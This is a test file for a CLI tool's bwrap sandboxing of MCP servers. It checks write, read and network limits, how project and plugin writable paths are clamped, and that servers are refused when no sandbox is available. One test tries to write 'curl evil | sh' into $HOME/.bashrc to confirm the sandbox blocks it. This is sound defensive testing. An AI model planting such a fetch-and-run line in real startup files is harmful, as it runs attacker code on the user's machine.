/**
 * Confined stdio MCP servers (#17 item 2), with real bwrap (installed here and in CI, which runs as
 * root): each profile is checked against what the server can and cannot do, through `trellis mcp
 * call` (the runtime a session uses) and `trellis mcp sandbox-check`.
 */
import assert from "node:assert/strict";
import { trustEntry } from "../helpers/trust_project.ts";
import { platform } from "../../lib/platform/mod.ts";
import { makeSandboxHome, runCliCaptured } from "../helpers/cli_harness.ts";
import { fixture } from "./_helpers.ts";

const SERVER = fixture("sandbox_server.mjs");

interface Box {
  root: string;
  ws: string;
  outside: string;
  env: Record<string, string>;
  config: string;
  cli(...argv: string[]): ReturnType<typeof runCliCaptured>;
}

/** A workspace (a git repo) and a directory outside it, with `[mcp_servers.fx]` written as given. */
async function box(serverToml: string, extra = ""): Promise<Box> {
  const { root, env } = await makeSandboxHome();
  const ws = `${root}/ws`;
  const outside = `${root}/outside`;
  await platform.fs.mkdir(`${ws}/.git`);
  await platform.fs.mkdir(outside);
  const config = `${env.TRELLIS_HOME}/config.toml`;
  await platform.fs.writeTextFile(
    config,
    `${extra}\n[mcp_servers.fx]\ncommand = "node"\nargs = [${JSON.stringify(SERVER)}]\n${serverToml}\n`,
  );
  return { root, ws, outside, env, config, cli: (...argv) => runCliCaptured(argv, { env, cwd: ws }) };
}

function call(b: Box, tool: string, args: Record<string, unknown>) {
  return b.cli("mcp", "call", "fx", tool, "--args", JSON.stringify(args));
}

const exists = async (path: string) => (await platform.fs.lstat(path)) !== null;

Deno.test("#17 item 2: an unconfined server (sandbox = none, the default) writes anywhere it may", async () => {
  const b = await box("");
  const inside = await call(b, "write_file", { path: `${b.ws}/a.txt`, text: "x" });
  const out = await call(b, "write_file", { path: `${b.outside}/b.txt`, text: "x" });
  assert.deepStrictEqual([inside.code, out.code], [0, 0], inside.stderr + out.stderr);
  assert.ok(await exists(`${b.ws}/a.txt`) && await exists(`${b.outside}/b.txt`));
});

Deno.test("#17 item 2: a read-only server cannot write into the workspace nor outside it, and still reads", async () => {
  const b = await box('sandbox = "read-only"');
  await platform.fs.writeTextFile(`${b.ws}/readme`, "hello");
  const inside = await call(b, "write_file", { path: `${b.ws}/a.txt`, text: "x" });
  const out = await call(b, "write_file", { path: `${b.outside}/b.txt`, text: "x" });
  assert.deepStrictEqual([inside.code, out.code], [1, 1]);
  assert.match(inside.stdout, /EROFS: read-only file system, open '.*\/ws\/a\.txt'/);
  assert.match(out.stdout, /EROFS/);
  assert.ok(!await exists(`${b.ws}/a.txt`) && !await exists(`${b.outside}/b.txt`));
  const read = await call(b, "read_file", { path: `${b.ws}/readme` });
  assert.deepStrictEqual([read.code, read.stdout.trim()], [0, "hello"]);
  // The placeholders that kept missing protected names from being created are gone afterwards.
  assert.deepStrictEqual((await platform.fs.readDir(b.ws)).map((e) => e.name).sort(), [".git", "readme"]);
});

Deno.test("#17 item 2: a workspace-write server writes in the workspace, not outside nor into .git or .trellis", async () => {
  const b = await box('sandbox = "workspace-write"');
  const inside = await call(b, "write_file", { path: `${b.ws}/a.txt`, text: "x" });
  assert.deepStrictEqual(inside.code, 0, inside.stdout + inside.stderr);
  assert.deepStrictEqual(await platform.fs.readTextFile(`${b.ws}/a.txt`), "x");
  const out = await call(b, "write_file", { path: `${b.outside}/b.txt`, text: "x" });
  const git = await call(b, "write_file", { path: `${b.ws}/.git/config`, text: "x" });
  const trellis = await call(b, "write_file", { path: `${b.ws}/.trellis`, text: "x" });
  const home = await call(b, "write_file", { path: b.config, text: "x" });
  assert.deepStrictEqual([out.code, git.code, trellis.code, home.code], [1, 1, 1, 1]);
  assert.ok(!await exists(`${b.outside}/b.txt`) && !await exists(`${b.ws}/.git/config`));
  // Nothing was created for .trellis, and the placeholders that held missing protected names while
  // the server ran (.trellis, .codex, .mcp.json …) are removed once it ended.
  assert.deepStrictEqual((await platform.fs.readDir(b.ws)).map((e) => e.name).sort(), [".git", "a.txt"]);
  assert.match(await platform.fs.readTextFile(b.config), /mcp_servers\.fx/);
});

Deno.test("#17 item 2: a sandbox_writable directory is writable in a read-only profile, nothing else is", async () => {
  const b = await box("");
  await platform.fs.writeTextFile(
    b.config,
    `[mcp_servers.fx]\ncommand = "node"\nargs = [${JSON.stringify(SERVER)}]\n` +
      `sandbox = "read-only"\nsandbox_writable = [${JSON.stringify(b.outside)}]\n`,
  );
  const out = await call(b, "write_file", { path: `${b.outside}/b.txt`, text: "y" });
  assert.deepStrictEqual(out.code, 0, out.stdout + out.stderr);
  assert.deepStrictEqual(await platform.fs.readTextFile(`${b.outside}/b.txt`), "y");
  const inside = await call(b, "write_file", { path: `${b.ws}/a.txt`, text: "x" });
  assert.deepStrictEqual(inside.code, 1);
});

/** A loopback TCP port that answers one line, open for the test's length. */
function listenOnce(): { port: number; close(): void } {
  const listener = Deno.listen({ hostname: "127.0.0.1", port: 0 });
  void (async () => {
    for await (const conn of listener) {
      await conn.write(new TextEncoder().encode("hello\n")).catch(() => {});
      conn.close();
    }
  })().catch(() => {});
  return { port: (listener.addr as Deno.NetAddr).port, close: () => listener.close() };
}

Deno.test("#17 item 2: sandbox_network = false keeps a server from a loopback port the test opens; true lets it connect", async () => {
  const server = listenOnce();
  try {
    const off = await box('sandbox = "read-only"');
    const denied = await call(off, "connect", { host: "127.0.0.1", port: server.port });
    assert.deepStrictEqual(denied.code, 1);
    assert.match(denied.stdout, /connect failed: connect (ECONNREFUSED|ENETUNREACH)/);
    const on = await box('sandbox = "read-only"\nsandbox_network = true');
    const allowed = await call(on, "connect", { host: "127.0.0.1", port: server.port });
    assert.deepStrictEqual([allowed.code, allowed.stdout.trim()], [0, "connected: hello"], allowed.stderr);
    // Still read-only with the network on.
    const write = await call(on, "write_file", { path: `${on.ws}/a.txt`, text: "x" });
    assert.deepStrictEqual(write.code, 1);
  } finally {
    server.close();
  }
});

Deno.test("#17 item 2: sandbox-check lists the tools and names each denial with its fix", async () => {
  const b = await box('sandbox = "read-only"');
  const cache = `${b.outside}/cache`;
  await platform.fs.writeTextFile(
    b.config,
    `[mcp_servers.fx]\ncommand = "node"\nargs = [${JSON.stringify(SERVER)}, "--startup-write", ${
      JSON.stringify(cache)
    }]\nsandbox = "read-only"\n`,
  );
  const run = await b.cli(
    "mcp",
    "sandbox-check",
    "fx",
    "--call",
    "write_file",
    "--args",
    JSON.stringify({ path: `${b.ws}/a.txt`, text: "x" }),
  );
  assert.deepStrictEqual(run.code, 1, run.stderr);
  assert.match(
    run.stdout,
    /sandbox = "read-only", sandbox_network = false, sandbox_writable = \[\] \(from the config\)/,
  );
  assert.match(run.stdout, /3 tools: write_file, read_file, connect/);
  assert.match(run.stdout, /call write_file: failed/);
  assert.ok(run.stdout.includes(`EROFS ${cache}: cannot write cache`), run.stdout);
  assert.ok(run.stdout.includes(`fix: sandbox_writable = [${JSON.stringify(b.outside)}]`), run.stdout);
  assert.ok(run.stdout.includes(`EROFS ${b.ws}/a.txt`), run.stdout);
  assert.ok(run.stdout.includes(`fix: sandbox = "workspace-write"`), run.stdout);
  // Trying the profile the fixes name: nothing denied, exit 0.
  const fixed = await b.cli(
    "mcp",
    "sandbox-check",
    "fx",
    "--sandbox",
    "workspace-write",
    "--writable",
    b.outside,
    "--json",
  );
  const report = JSON.parse(fixed.stdout);
  assert.deepStrictEqual([fixed.code, report.started, report.denials, report.profile_source], [
    0,
    true,
    [],
    "command line",
  ]);
});

Deno.test("#17 item 2: sandbox-check names a network denial with sandbox_network = true as its fix", async () => {
  const server = listenOnce();
  try {
    const b = await box('sandbox = "workspace-write"');
    const run = await b.cli(
      "mcp",
      "sandbox-check",
      "fx",
      "--call",
      "connect",
      "--args",
      JSON.stringify({ host: "127.0.0.1", port: server.port }),
      "--json",
    );
    const report = JSON.parse(run.stdout);
    assert.deepStrictEqual(run.code, 1);
    assert.deepStrictEqual(report.denials.map((d: { kind: string; fix: string }) => [d.kind, d.fix]), [
      ["network", "sandbox_network = true"],
    ]);
  } finally {
    server.close();
  }
});

Deno.test("#17 item 2 bad input: a sandbox_writable path that does not exist is an error naming the server and the path", async () => {
  const b = await box('sandbox = "read-only"\nsandbox_writable = ["/nonexistent/cache-dir"]');
  const run = await call(b, "write_file", { path: `${b.ws}/a.txt`, text: "x" });
  assert.notStrictEqual(run.code, 0);
  assert.ok(
    run.stderr.includes(
      'MCP server "fx": sandbox_writable path "/nonexistent/cache-dir" does not exist; create it or change sandbox_writable',
    ),
    run.stderr,
  );
  assert.ok(!run.stderr.includes("    at "), "no stack trace");
});

Deno.test("#17 item 2 bad input: an unknown sandbox value is a config error naming the file and the field", async () => {
  const b = await box('sandbox = "strict"');
  const run = await b.cli("mcp", "list");
  assert.ok(run.stderr.includes(`Invalid config ${b.config}:`), run.stderr);
  assert.match(
    run.stderr,
    /mcp_servers\.fx\.sandbox: Invalid option: expected one of "none"\|"read-only"\|"workspace-write"/,
  );
  const stray = await box("sandbox_network = true");
  const strayRun = await stray.cli("mcp", "list");
  assert.match(
    strayRun.stderr,
    /mcp_servers\.fx\.sandbox_network: sandbox_network needs sandbox = "read-only" or "workspace-write"/,
  );
});

Deno.test("#17 item 2: without bwrap a server that asks for a sandbox is refused, never started unconfined", async () => {
  const b = await box('sandbox = "workspace-write"');
  const bin = `${b.root}/bin`;
  await platform.fs.mkdir(bin);
  await Deno.symlink(
    platform.env("PATH")!.split(":").map((d) => `${d}/node`).find((p) => {
      try {
        return Deno.statSync(p).isFile;
      } catch {
        return false;
      }
    })!,
    `${bin}/node`,
  );
  const env = { ...b.env, PATH: bin };
  const run = await runCliCaptured(
    ["mcp", "call", "fx", "write_file", "--args", JSON.stringify({ path: `${b.ws}/a.txt`, text: "x" })],
    { env, cwd: b.ws },
  );
  assert.notStrictEqual(run.code, 0);
  assert.ok(
    run.stderr.includes(
      'MCP server "fx" asks for sandbox = "workspace-write", but no sandbox is available here (bwrap not found); it was not started',
    ),
    run.stderr,
  );
  assert.ok(!await exists(`${b.ws}/a.txt`));
});

/** A trusted project whose `.mcp.json` declares `fx` (plus `entry`), under `mcp_require_sandbox`. */
async function projectBox(entry: Record<string, unknown>, userExtra: string) {
  const b = await box("");
  await platform.fs.writeTextFile(
    `${b.ws}/.mcp.json`,
    JSON.stringify({ mcpServers: { fx: { command: "node", args: [SERVER], ...entry } } }),
  );
  await platform.fs.writeTextFile(b.config, `${userExtra}\n${trustEntry(b.ws)}`);
  return b;
}

Deno.test("#17 item 2: mcp_require_sandbox = true refuses a project server without a profile, naming it and the key", async () => {
  const b = await projectBox({}, "mcp_require_sandbox = true");
  const run = await call(b, "write_file", { path: `${b.ws}/a.txt`, text: "x" });
  assert.notStrictEqual(run.code, 0);
  assert.ok(
    run.stderr.includes(
      `not started: mcp_require_sandbox = true (${b.config}) and this project server has no sandbox profile; ` +
        `set "sandbox" in its entry in ${b.ws}/.mcp.json, or redefine the server whole (command, args and ` +
        `sandbox) as [mcp_servers.fx] in your config.toml, to "read-only" or "workspace-write"`,
    ),
    run.stderr,
  );
  assert.ok(!await exists(`${b.ws}/a.txt`));
  // Without the requirement the same server runs (unconfined, as before).
  const free = await projectBox({}, "");
  assert.deepStrictEqual((await call(free, "write_file", { path: `${free.ws}/a.txt`, text: "x" })).code, 0);
});

Deno.test("#17 item 2: under mcp_require_sandbox a project server that declares a profile runs confined in it", async () => {
  const b = await projectBox({ sandbox: "read-only" }, "mcp_require_sandbox = true");
  const run = await call(b, "write_file", { path: `${b.ws}/a.txt`, text: "x" });
  assert.deepStrictEqual(run.code, 1);
  assert.match(run.stdout, /EROFS/);
  const read = await call(b, "read_file", { path: `${b.ws}/.mcp.json` });
  assert.deepStrictEqual(read.code, 0, read.stderr);
});

Deno.test("#17 item 2: a project layer can neither set mcp_require_sandbox nor loosen the profile the user chose", async () => {
  const b = await box('sandbox = "read-only"');
  await platform.fs.mkdir(`${b.ws}/.trellis`);
  const projectConfig = `${b.ws}/.trellis/config.toml`;
  await platform.fs.writeTextFile(
    projectConfig,
    `mcp_require_sandbox = false\n\n[mcp_servers.fx]\ncommand = "node"\nargs = [${
      JSON.stringify(SERVER)
    }]\nsandbox = "none"\n`,
  );
  await platform.fs.writeTextFile(
    b.config,
    (await platform.fs.readTextFile(b.config)) + `\n${trustEntry(b.ws)}`,
  );
  const run = await call(b, "write_file", { path: `${b.ws}/a.txt`, text: "x" });
  assert.deepStrictEqual(run.code, 1, run.stderr);
  assert.ok(run.stderr.includes(`Ignored mcp_require_sandbox in ${projectConfig}`), run.stderr);
  assert.ok(
    run.stderr.includes(
      `Ignored the sandbox keys of MCP server "fx" in ${projectConfig}: your own config sets its profile`,
    ),
    run.stderr,
  );
  assert.ok(!await exists(`${b.ws}/a.txt`));
});

/**
 * #20 item 11: a plugin (`writer@t`, from a local marketplace) whose server declares its own profile,
 * workspace-write with `sandbox_writable` as given; `userExtra` goes into the user's config.toml.
 */
async function pluginBox(writable: string[], userExtra = "") {
  const b = await box("");
  const market = `${b.root}/market`;
  const plugin = `${market}/plugins/writer`;
  await platform.fs.mkdir(`${market}/.agents/plugins`);
  await platform.fs.mkdir(`${plugin}/.codex-plugin`);
  await platform.fs.writeTextFile(
    `${market}/.agents/plugins/marketplace.json`,
    JSON.stringify({ name: "t", plugins: [{ name: "writer", source: "./plugins/writer" }] }),
  );
  await platform.fs.writeTextFile(
    `${plugin}/.codex-plugin/plugin.json`,
    JSON.stringify({ name: "writer", version: "1.0.0", description: "writes files" }),
  );
  await platform.fs.writeTextFile(
    `${plugin}/.mcp.json`,
    JSON.stringify({
      mcpServers: {
        fx: { command: "node", args: [SERVER], sandbox: "workspace-write", sandbox_writable: writable },
      },
    }),
  );
  await platform.fs.writeTextFile(b.config, `${userExtra}\n`);
  for (const argv of [["plugin", "marketplace", "add", market], ["plugin", "install", "writer@t"]]) {
    const run = await b.cli(...argv);
    assert.deepStrictEqual(run.code, 0, run.stderr);
  }
  return { ...b, home: b.env.HOME, dataDir: `${b.env.TRELLIS_HOME}/plugins/data/writer@t` };
}

// Each of these fails when the clamp is gone (a project's or plugin's own `sandbox_writable` made
// writable as written): the write into $HOME succeeds. `notes.txt` is no protected name, so the
// denial is the clamp's, not another rule's (.bashrc is asserted too, as the case).
Deno.test("#20 item 11: a plugin server's own sandbox_writable ['~'] is clamped: $HOME stays read-only, with one warning", async () => {
  const b = await pluginBox(["~", "${PLUGIN_DATA}"]);
  await platform.fs.mkdir(b.dataDir);
  const notes = await call(b, "write_file", { path: `${b.home}/notes.txt`, text: "x" });
  const rc = await call(b, "write_file", { path: `${b.home}/.bashrc`, text: "curl evil | sh" });
  assert.deepStrictEqual([notes.code, rc.code], [1, 1], notes.stderr);
  assert.match(notes.stdout, /EROFS/);
  assert.ok(!await exists(`${b.home}/notes.txt`) && !await exists(`${b.home}/.bashrc`));
  const warning = `MCP server "fx": ignoring sandbox_writable path "~" (${b.home}): the plugin's own ` +
    `profile may only make the workspace and the plugin's data directory writable; to grant it, set ` +
    `[plugins."writer@t".mcp_servers.fx] sandbox_writable in your config.toml`;
  assert.deepStrictEqual(notes.stderr.split(warning).length, 2, notes.stderr);
  // The neighbours the clamp keeps: the workspace and the plugin's data dir stay writable.
  const ws = await call(b, "write_file", { path: `${b.ws}/a.txt`, text: "x" });
  const data = await call(b, "write_file", { path: `${b.dataDir}/state`, text: "x" });
  assert.deepStrictEqual([ws.code, data.code], [0, 0], ws.stdout + data.stdout);
});

Deno.test("#20 item 11: the same sandbox_writable ['~'] from the user's own config layer is honoured", async () => {
  const b = await pluginBox([], '[plugins."writer@t".mcp_servers.fx]\nsandbox_writable = ["~"]');
  const notes = await call(b, "write_file", { path: `${b.home}/notes.txt`, text: "x" });
  assert.deepStrictEqual(notes.code, 0, notes.stdout + notes.stderr);
  assert.deepStrictEqual(await platform.fs.readTextFile(`${b.home}/notes.txt`), "x");
  assert.ok(!notes.stderr.includes("ignoring sandbox_writable"), notes.stderr);
});

Deno.test("#20 item 11: a trusted project's .mcp.json server is clamped to the workspace; a path inside it is kept", async () => {
  const b = await projectBox({ sandbox: "read-only", sandbox_writable: ["~", "./out"] }, "");
  await platform.fs.mkdir(`${b.ws}/out`);
  const notes = await call(b, "write_file", { path: `${b.env.HOME}/notes.txt`, text: "x" });
  assert.deepStrictEqual(notes.code, 1, notes.stderr);
  assert.ok(!await exists(`${b.env.HOME}/notes.txt`));
  assert.ok(
    notes.stderr.includes(
      `MCP server "fx": ignoring sandbox_writable path "~" (${b.env.HOME}): the project's own profile may ` +
        "only make the workspace writable; to grant it, set the server whole (command, args, sandbox and " +
        "sandbox_writable) as [mcp_servers.fx] in your config.toml",
    ),
    notes.stderr,
  );
  const out = await call(b, "write_file", { path: `${b.ws}/out/a.txt`, text: "x" });
  assert.deepStrictEqual(out.code, 0, out.stdout + out.stderr);
  // read-only profile: the rest of the workspace is not writable.
  const ws = await call(b, "write_file", { path: `${b.ws}/a.txt`, text: "x" });
  assert.deepStrictEqual(ws.code, 1);
});

Deno.test("#20 item 11: a trusted project's .trellis/config.toml server is clamped too, also through a symlink out of the workspace", async () => {
  const b = await box("");
  await platform.fs.mkdir(`${b.ws}/.trellis`);
  // A link in the repository that points out of it: the clamp judges the real path.
  await Deno.symlink(b.outside, `${b.ws}/cache`);
  await platform.fs.writeTextFile(
    `${b.ws}/.trellis/config.toml`,
    `[mcp_servers.fx]\ncommand = "node"\nargs = [${
      JSON.stringify(SERVER)
    }]\nsandbox = "read-only"\nsandbox_writable = ["~", "cache"]\n`,
  );
  // Trusted as `trellis project trust` records it: with the hash of the layer file just written.
  await platform.fs.writeTextFile(b.config, trustEntry(b.ws));
  const notes = await call(b, "write_file", { path: `${b.env.HOME}/notes.txt`, text: "x" });
  const linked = await call(b, "write_file", { path: `${b.outside}/b.txt`, text: "x" });
  assert.deepStrictEqual([notes.code, linked.code], [1, 1], notes.stderr);
  assert.ok(!await exists(`${b.env.HOME}/notes.txt`) && !await exists(`${b.outside}/b.txt`));
  assert.ok(notes.stderr.includes(`ignoring sandbox_writable path "cache" (${b.outside})`), notes.stderr);
  assert.ok(
    notes.stderr.includes(
      "to grant it, set sandbox and sandbox_writable in [mcp_servers.fx] in your config.toml",
    ),
    notes.stderr,
  );
});
